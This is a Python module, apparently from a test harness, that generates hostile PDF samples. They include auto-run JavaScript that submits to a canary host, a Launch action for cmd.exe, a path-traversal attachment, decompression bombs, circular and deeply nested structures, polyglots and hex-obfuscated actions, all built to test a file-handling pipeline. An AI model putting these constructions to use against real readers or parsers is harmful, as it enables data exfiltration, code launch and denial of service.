"""Malicious PDF documents: with actions, links, attachments, metadata, polyglots, bombs."""

from __future__ import annotations

import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from io import BytesIO
from random import Random
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

from harness.stage.hostile_files.canary import ELSEWHERE, HTML, MARK, RUN, XMP
from harness.stage.hostile_files.pictures import Sample, archive, chatty_exif, picture

SCRIPT = f"app.alert('{MARK}'); this.submitForm('{ELSEWHERE}'); app.launchURL('{ELSEWHERE}');"
Change = Callable[[Pdf], None]


def document(change: Change | None = None, pages: int = 1, **options: Any) -> bytes:
    """A PDF of empty pages, changed before it is saved."""
    out = BytesIO()
    with pikepdf.new() as pdf:
        for _n in range(pages):
            pdf.add_blank_page(page_size=(200, 300))
        if change is not None:
            change(pdf)
        pdf.save(out, **options)
    return out.getvalue()


def action(pdf: Pdf, kind: str) -> pikepdf.Object:
    """One of the things that a PDF can do."""
    known: dict[str, dict[str, Any]] = {
        "JavaScript": {"JS": SCRIPT},
        "Launch": {"F": "cmd.exe", "Win": Dictionary(F="cmd.exe", P=MARK)},
        "URI": {"URI": f"{ELSEWHERE}?{MARK}"},
        "SubmitForm": {"F": Dictionary(FS=Name.URL, F=ELSEWHERE)},
        "GoToR": {"F": f"\\\\canary.invalid\\{MARK}", "D": Array([0, Name.Fit])},
        "GoToE": {"T": Dictionary(R=Name.C, N=MARK), "D": Array([0, Name.Fit])},
        "ImportData": {"F": f"{MARK}.fdf"},
        "Rendition": {"JS": SCRIPT, "OP": 0},
        "Movie": {"T": MARK},
        "Sound": {"Sound": pdf.make_stream(MARK.encode())},
    }
    return pdf.make_indirect(Dictionary(S=Name(f"/{kind}"), **known[kind]))


ACTIONS = ("JavaScript", "Launch", "URI", "SubmitForm", "GoToR", "GoToE", "ImportData",
           "Rendition", "Movie", "Sound")  # fmt: skip


def on_opening(kind: str) -> Change:
    """The action is attached to the document."""

    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = action(pdf, kind)

    return change


def on_a_page(kind: str) -> Change:
    """The action is attached to the page and to a link over all of it."""

    def change(pdf: Pdf) -> None:
        step, page = action(pdf, kind), pdf.pages[0]
        page.AA = Dictionary(O=step, C=step)
        page.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 200, 300], A=step,
                        AA=Dictionary(PO=step))]
        )  # fmt: skip

    return change


def by_name(pdf: Pdf) -> None:
    """A script in the name tree."""
    tree = Dictionary(Names=Array([MARK, action(pdf, "JavaScript")]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def in_the_outline(pdf: Pdf) -> None:
    """A script in a bookmark."""
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    entry = pdf.make_indirect(Dictionary(Title=MARK, A=action(pdf, "JavaScript")))
    pdf.Root.Outlines.First = pdf.Root.Outlines.Last = entry


def in_a_field(pdf: Pdf) -> None:
    """A form that computes, validates and submits by itself."""
    step = action(pdf, "JavaScript")
    drawn = pdf.make_stream(b"0 0 9 9 re f", Subtype=Name.Form, BBox=[0, 0, 9, 9])
    field = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="a", V="x", F=4,
                   Rect=[0, 0, 9, 9], AP=Dictionary(N=drawn), A=action(pdf, "SubmitForm"),
                   AA=Dictionary(K=step, F=step, V=step, C=step))
    )  # fmt: skip
    pdf.pages[0].Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]), NeedAppearances=True)


def xfa(pdf: Pdf) -> None:
    """An XML form (XFA) with its own scripts."""
    form = pdf.make_stream(b"<xdp:xdp><script>" + RUN.encode() + b"</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)


def drawn_by_a_programme(pdf: Pdf) -> None:
    """Nothing but an XML form (XFA)."""
    xfa(pdf)
    pdf.Root.NeedsRendering = True


def attached(pdf: Pdf) -> None:
    """An attached program."""
    pdf.attachments["../../etc/cron.d/x.exe"] = b"MZ" + MARK.encode()


def portfolio(pdf: Pdf) -> None:
    """A portfolio of other files."""
    attached(pdf)
    pdf.Root.Collection = Dictionary(View=Name.D)


def associated(pdf: Pdf) -> None:
    """An associated file of a page (PDF 2.0)."""
    data = pdf.make_stream(MARK.encode(), Type=Name.EmbeddedFile)
    file = pdf.make_indirect(Dictionary(Type=Name.Filespec, F="x.exe", EF=Dictionary(F=data)))
    pdf.Root.AF = pdf.pages[0].AF = Array([file])


def rich_media(pdf: Pdf) -> None:
    """A film with a player."""
    data = pdf.make_stream(b"FWS" + MARK.encode(), Type=Name.EmbeddedFile)
    file = pdf.make_indirect(Dictionary(Type=Name.Filespec, F="x.swf", EF=Dictionary(F=data)))
    pdf.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9],
                    RichMediaContent=Dictionary(Assets=Dictionary(Names=Array(["x", file]))),
                    RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)))]
    )  # fmt: skip


def screens(pdf: Pdf) -> None:
    """Annotations with files, sounds, models."""
    data = pdf.make_stream(MARK.encode(), Type=Name.EmbeddedFile)
    file = pdf.make_indirect(Dictionary(Type=Name.Filespec, F="x", EF=Dictionary(F=data)))
    kinds = ("FileAttachment", "Screen", "Movie", "3D", "Sound")
    pdf.pages[0].Annots = Array(
        [
            Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9], FS=file,
                       Sound=data, A=action(pdf, "Rendition"))
            for kind in kinds
        ]
    )  # fmt: skip


def stream_outside(pdf: Pdf) -> None:
    """An image whose bytes are on another machine."""
    image = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1,
                            ColorSpace=Name.DeviceGray, BitsPerComponent=8,
                            F=Dictionary(FS=Name.URL, F=f"{ELSEWHERE}{MARK}"))  # fmt: skip
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(A=image))
    pdf.pages[0].Contents = pdf.make_stream(b"/A Do")


def chatty(pdf: Pdf) -> None:
    """Author, history and camera metadata, everywhere."""
    pdf.docinfo["/Author"] = pdf.docinfo["/Title"] = MARK
    words = pdf.make_stream(XMP, Type=Name.Metadata, Subtype=Name.XML)
    pdf.Root.Metadata = pdf.pages[0].Metadata = words
    pdf.pages[0].PieceInfo = Dictionary(Camera=Dictionary(Private=MARK))
    pdf.pages[0].LastModified = "D:20160101"
    photo = picture(exif=chatty_exif(), comment=MARK.encode(), xmp=XMP)
    image = pdf.make_stream(photo, Type=Name.XObject, Subtype=Name.Image, Width=96, Height=64,
                            ColorSpace=Name.DeviceRGB, BitsPerComponent=8,
                            Metadata=words)  # fmt: skip
    image.write(photo, filter=Name.DCTDecode)
    pdf.pages[0].Resources = Dictionary(
        XObject=Dictionary(A=image), Properties=Dictionary(M=Dictionary(Metadata=words, T=MARK))
    )


def photo_packed_twice(pdf: Pdf) -> None:
    """Camera metadata behind a second filter."""
    chatty(pdf)
    image = pdf.pages[0].Resources.XObject.A
    packed = zlib.compress(image.read_raw_bytes())
    image.write(packed, filter=Array([Name.FlateDecode, Name.DCTDecode]))


def huge_picture(pdf: Pdf) -> None:
    """An image that claims 2,500 million pixels."""
    image = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=50_000,
                            Height=50_000, ColorSpace=Name.DeviceRGB,
                            BitsPerComponent=8)  # fmt: skip
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(A=image))


@cache
def packed(megabytes: int) -> bytes:
    """Compressed zeros."""
    packer = zlib.compressobj(4)
    return b"".join(packer.compress(bytes(2**20)) for _n in range(megabytes)) + packer.flush()


def page_that_unpacks(layers: int) -> Change:
    """A page of two gigabytes; or of far more, compressed several times."""

    def change(pdf: Pdf) -> None:
        content = packed(2048 if layers == 1 else 300)
        for _n in range(layers - 1):
            content = zlib.compress(content, 9)
        pdf.pages[0].Contents = pdf.make_stream(b"")
        pdf.pages[0].Contents.write(content, filter=Array([Name.FlateDecode] * layers))

    return change


def nested(depth: int) -> Change:
    """Deeply nested arrays."""

    def change(pdf: Pdf) -> None:
        pdf.pages[0].Contents = pdf.make_stream(b"[" * depth + b"]" * depth)
        inner = Array([])
        for _n in range(min(depth, 400)):
            inner = Array([inner])
        pdf.pages[0].Group = Dictionary(S=Name.Transparency, Deep=inner)

    return change


def circle(pdf: Pdf) -> None:
    """Forms that draw each other."""
    one, two = (pdf.make_stream(b"/A Do", Subtype=Name.Form, BBox=[0, 0, 9, 9]) for _n in range(2))
    one.Resources, two.Resources = (Dictionary(XObject=Dictionary(A=each)) for each in (two, one))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(A=one))
    pdf.pages[0].Contents = pdf.make_stream(b"/A Do")


CHANGES: Mapping[str, Change] = {
    **{f"opening-{kind}": on_opening(kind) for kind in ACTIONS},
    **{f"page-{kind}": on_a_page(kind) for kind in ACTIONS},
    **{
        change.__name__.replace("_", "-"): change
        for change in (
            by_name, in_the_outline, in_a_field, xfa, drawn_by_a_programme, attached, portfolio,
            associated, rich_media, screens, stream_outside, chatty, photo_packed_twice,
            huge_picture, circle,
        )
    },
    "page-of-two-gigabytes": page_that_unpacks(1),
    "page-packed-four-times": page_that_unpacks(4),
    "nested-400": nested(400),
    "nested-100000": nested(100_000),
}  # fmt: skip


def changed() -> Iterator[Sample]:
    """All of the above, each in its own document."""
    for name, change in CHANGES.items():
        yield f"{name}.pdf", document(change)
    packing = pikepdf.ObjectStreamMode.generate
    yield (
        "opening-script-in-object-stream.pdf",
        document(on_opening("JavaScript"), object_stream_mode=packing),
    )
    yield "locked.pdf", document(encryption=pikepdf.Encryption(owner="o", user="u"))
    yield "restricted.pdf", document(encryption=pikepdf.Encryption(owner="o", user=""))
    yield "of-51-pages.pdf", document(pages=51)
    yield "of-no-page.pdf", document(pages=0)


def by_hand(random: Random) -> Iterator[Sample]:
    """What no library writes: polyglots, circular tables, endless objects."""
    whole = document(on_opening("JavaScript"))
    yield "page-in-head.pdf", whole.replace(b"\n", b"\n%" + HTML + b"\n", 1)
    yield "page-before.pdf", HTML + b"\n" + whole
    yield "page-behind.pdf", whole + HTML
    yield "archive-behind.pdf", document() + archive()
    yield "jpeg-before.pdf", picture() + document()
    yield "page-with-pdf-head.pdf", b"%PDF-1.7\n" + HTML
    yield "cut-short.pdf", whole[: len(whole) // 2]
    twisted = bytearray(whole)
    for _n in range(30):
        twisted[random.randrange(9, len(twisted))] = random.randrange(256)
    yield "twisted.pdf", bytes(twisted)
    script = SCRIPT.encode().hex()
    yield (
        "script-name-in-hex.pdf",
        _raw(f"<</Type/Catalog/Pages 2 0 R/Open#41ction<</S/Java#53cript/JS<{script}>>>>>"),
    )
    yield "table-that-names-itself.pdf", _raw(prev="STARTXREF")
    yield "pages-in-a-circle.pdf", _raw(kids="2 0 R")
    yield "page-two-thousand-times.pdf", _raw(kids="3 0 R " * 2000)
    yield "deep-tree.pdf", _deep_tree(3000)
    yield "object-stream-bomb.pdf", _object_stream_bomb()
    yield (
        "length-that-lies.pdf",
        document().replace(b"/Type /Page\n", b"/Type /Page /Length 2147483647\n"),
    )
    yield "million-objects.pdf", _objects([b"null"] * 150_000)


def _objects(more: list[bytes], root: str = "", kids: str = "3 0 R", prev: str = "") -> bytes:
    """A handwritten document with a valid cross-reference table."""
    catalog = (root or "<</Type/Catalog/Pages 2 0 R>>").encode()
    pages = f"<</Type/Pages/Kids[{kids}]/Count {kids.count('R')}>>".encode()
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 300]>>"
    out, places = bytearray(b"%PDF-1.7\n"), []
    for n, body in enumerate([catalog, pages, page, *more], 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    before = f"/Prev {table}" if prev else ""
    out += f"trailer\n<</Size {len(places) + 1}/Root 1 0 R{before}>>\n".encode()
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % table


def _raw(root: str = "", kids: str = "3 0 R", prev: str = "") -> bytes:
    return _objects([], root, kids, prev)


def _deep_tree(depth: int) -> bytes:
    more = [b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (max(2, n + 3), n + 5)
            for n in range(depth)]  # fmt: skip
    more.append(b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (depth + 3))
    return _objects(more, kids="4 0 R")


def _object_stream_bomb() -> bytes:
    """The catalogue is in an object stream that unpacks to two gigabytes."""
    content = packed(2048)
    head = b"<</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length %d>>" % len(content)
    stream = head + b"\nstream\n" + content + b"\nendstream"
    out = bytearray(b"%PDF-1.7\n")
    place = len(out)
    out += b"1 0 obj\n" + stream + b"\nendobj\n"
    table = len(out)
    rows = b"".join(
        bytes([kind]) + where.to_bytes(4) + bytes([index])
        for kind, where, index in ((0, 0, 0), (1, place, 0), (2, 1, 0), (1, table, 0))
    )
    out += b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 2 0 R/Length %d>>" % len(rows)
    out += b"\nstream\n" + rows + b"\nendstream\n"
    return bytes(out) + b"endobj\nstartxref\n%d\n%%%%EOF\n" % table
